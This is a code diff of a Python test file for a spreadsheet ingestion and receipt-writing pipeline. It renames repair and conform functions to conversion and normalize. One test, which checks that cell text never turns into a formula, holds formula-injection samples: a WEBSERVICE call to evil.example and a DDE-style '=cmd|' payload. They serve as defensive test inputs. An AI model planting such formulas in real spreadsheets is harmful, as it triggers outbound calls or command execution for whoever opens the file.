@@ -16,8 +16,8 @@ from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.worksheet.datavalidation import DataValidation
 
 from contracts import Finding, catalogue, contracts, finding
-from contracts.normalization_log import Repair
-from ingestion.normalize.table import conform_table
+from contracts.normalization_log import Conversion
+from ingestion.normalize.table import normalize_table
 from ingestion.readers.cells import a1
 from ingestion.readers.tabular import read_workbook
 from ingestion.receipts import SubmissionSummary, UnitSummary, workbook, write_receipt
@@ -118,10 +118,10 @@ def test_a_receipt_sent_back_reads_as_the_submission_did(tmp_path, name):
     """People correct the copy with the marks in it, and submit that."""
     original = SAMPLES / name
     agreed = contracts()[original.parent.name]
-    first = conform_table(original, original.name, agreed, "S1")
+    first = normalize_table(original, original.name, agreed, "S1")
     receipt(tmp_path, original, first.findings, agreed.dataset)
     copy = tmp_path / "receipts" / "S1" / f"{original.stem}-审核结果.xlsx"
-    second = conform_table(copy, copy.name, agreed, "S2")
+    second = normalize_table(copy, copy.name, agreed, "S2")
     assert first.table.num_rows > 0
     assert second.table.drop_columns(["sheet"]).equals(first.table.drop_columns(["sheet"]))
     assert [(one.rule_id, one.cell) for one in second.findings] == [(one.rule_id, one.cell) for one in first.findings]
@@ -178,7 +178,7 @@ def test_text_of_a_workbook_never_becomes_a_formula(tmp_path):
     sheet["C2"] = '=WEBSERVICE("http://evil.example/")'
     book.save(tmp_path / "a.xlsx")
     wrong = finding(
-        "conform.text_in_numeric",
+        "normalize.text_in_numeric",
         reporting_unit="=cmd|'x'!A1",
         sheet="Sheet",
         cell="A1",
@@ -339,11 +339,11 @@ def test_a_small_workbook_is_quick(tmp_path):
 
 def test_repairs_have_a_sheet_of_their_own_in_which_nothing_computes(tmp_path):
     path = SAMPLES / "clean" / "ecology" / "2025生态年报-上党.xls"
-    repairs = (
-        Repair("Sheet1", "B4:B13", "land_area_ha", "unit_of_column", "亩", "公顷（÷15）", 10),
-        *(Repair(None, "C5", "forest_area_ha", "text_number", danger, danger) for danger in DANGEROUS),
+    conversions = (
+        Conversion("Sheet1", "B4:B13", "land_area_ha", "unit_of_column", "亩", "公顷（÷15）", 10),
+        *(Conversion(None, "C5", "forest_area_ha", "text_number", danger, danger) for danger in DANGEROUS),
     )
-    submission = SubmissionSummary("S1", "ecology", "2026-01-20T10:05:00+08:00", repaired=9, repairs=repairs)
+    submission = SubmissionSummary("S1", "ecology", "2026-01-20T10:05:00+08:00", repaired=9, conversions=conversions)
     made = write_receipt(
         tmp_path / "receipts" / "S1",
         original=path,
@@ -367,8 +367,8 @@ def test_repairs_have_a_sheet_of_their_own_in_which_nothing_computes(tmp_path):
     assert sheet["A8"].value == "共 9 处，只列出前 6 处"
 
     told = json.loads(made.document.read_text(encoding="utf-8"))
-    assert told["repaired"] == 9 and len(told["repairs"]) == 6
-    assert told["repairs"][0] == {
+    assert told["converted"] == 9 and len(told["conversions"]) == 6
+    assert told["conversions"][0] == {
         "sheet": "Sheet1",
         "cell": "B4:B13",
         "feature": None,
